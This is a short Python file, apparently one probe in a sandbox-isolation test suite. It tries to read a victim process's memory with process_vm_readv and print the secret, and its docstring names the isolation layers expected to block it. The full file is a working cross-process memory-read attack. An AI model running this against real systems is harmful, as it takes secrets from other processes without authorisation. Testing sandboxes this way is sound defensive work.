"""Reads another process's memory in one call.

stopped-by: seccomp, namespaces, landlock, privileges, tree
needs: ptrace
evidence: secret
leaks: the other's secret arrives
"""

import ctypes

from evalmode_runner.attacks.tools import call, facts, number

start, end = facts.victim_memory
into = ctypes.create_string_buffer(end - start)
ours = (ctypes.c_size_t * 2)(ctypes.addressof(into), end - start)
theirs = (ctypes.c_size_t * 2)(start, end - start)
call(number("process_vm_readv"), facts.victim, ours, 1, theirs, 1, 0)
print(into.raw)
